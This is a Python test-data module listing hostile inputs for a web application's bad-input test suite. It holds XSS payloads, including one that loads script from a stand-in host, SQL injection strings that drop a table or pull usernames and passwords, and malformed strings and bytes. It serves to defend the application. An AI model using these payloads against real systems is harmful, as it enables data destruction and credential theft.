"""The hostile values of the bad-input suite, as data: (vector id, value) pairs.

Every reader-facing input is fed every vector that makes sense for it; the tests decide per
input whether a vector must be refused or may be stored, and check that nothing becomes markup.
"""

from __future__ import annotations

XSS: list[tuple[str, str]] = [
    ("script-tag", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("attr-breakout-double", '"><img src=x onerror=alert(1)>'),
    ("attr-breakout-single", "'><body onload=alert(1)>"),
    ("attr-unquoted-handler", "x onmouseover=alert(1) y"),
    ("javascript-url", "javascript:alert(1)"),
    ("javascript-url-mixed-case", "JaVaScRiPt:alert(1)"),
    ("javascript-url-entity", "jav&#x09;ascript:alert(1)"),
    ("javascript-href", '<a href="javascript:alert(1)">x</a>'),
    ("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data-url-link", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    ("url-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("decimal-entities", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("close-textarea", "</textarea><script>alert(1)</script>"),
    ("close-title", "</title><script>alert(1)</script>"),
    ("close-script", "</script><script>alert(1)</script>"),
    ("style-url", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("autolink-quote", 'https://example.com/"onmouseover="alert(1)'),
    ("autolink-javascript", "https://example.com/ javascript:alert(1)"),
    ("fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
    ("template-injection", "{{ request }}{% debug %}${7*7}"),
]

SQL_INJECTION: list[tuple[str, str]] = [
    ("sql-or-true", "' OR '1'='1"),
    ("sql-drop", "1; DROP TABLE comments_comment;--"),
    ("sql-union", "' UNION SELECT username, password FROM auth_user--"),
    ("sql-sleep", "1' AND pg_sleep(10)--"),
    ("sql-comment", "admin'--"),
]

ONE_MEGABYTE = "A" * (1024 * 1024)

SPECIAL: list[tuple[str, str]] = [
    ("one-megabyte", ONE_MEGABYTE),
    ("nul-byte", "abc\x00def"),
    ("only-nul", "\x00"),
    ("rtl-override", "コメント\u202etxt.exe"),
    ("zero-width", "ゼロ\u200b幅\u200c文\u200d字\ufeff"),
    ("control-chars", "bell\x07escape\x1b[31m"),
    ("lone-surrogate-escape", "\\ud800"),
]

IDS: list[tuple[str, str]] = [
    ("id-negative", "-1"),
    ("id-zero", "0"),
    ("id-2pow63", str(2**63)),
    ("id-20-digits", "99999999999999999999"),
    ("id-float-exp", "1e3"),
    ("id-float", "1.5"),
    ("id-hex", "0x10"),
    ("id-alpha", "abc"),
    ("id-blank", " "),
]

# Everything a free-text input can be sent.
ALL: list[tuple[str, str]] = XSS + SQL_INJECTION + SPECIAL + IDS

# A smaller set for inputs that are only parsed, never stored: one of each kind of attack.
_PARSED = {
    "script-tag",
    "attr-breakout-double",
    "attr-breakout-single",
    "javascript-url",
    "svg-onload",
    "url-encoded",
    "close-title",
    "sql-or-true",
    "sql-drop",
    "one-megabyte",
    "nul-byte",
    "rtl-override",
    "zero-width",
}
PARSED: list[tuple[str, str]] = [item for item in ALL if item[0] in _PARSED] + IDS

# For values that are parsed as a number or a choice and never shown: ids, and one of each
# other kind.
_NUMERIC = {"script-tag", "attr-breakout-double", "sql-or-true", "nul-byte", "one-megabyte"}
NUMERIC: list[tuple[str, str]] = [item for item in ALL if item[0] in _NUMERIC] + IDS


def params(vectors: list[tuple[str, str]]) -> dict:
    """``pytest.mark.parametrize`` arguments: values with readable ids."""
    return {"argvalues": [value for _id, value in vectors], "ids": [key for key, _v in vectors]}


# Query strings that are not UTF-8 at all, sent raw (as a browser never would).
INVALID_UTF8_QUERY_VALUES: list[tuple[str, bytes]] = [
    ("ff-fe", b"\xff\xfe"),
    ("truncated-sequence", b"\xe3\x81"),
    ("overlong-slash", b"\xc0\xaf"),
    ("surrogate-bytes", b"\xed\xa0\x80"),
    ("latin1-text", b"caf\xe9"),
]
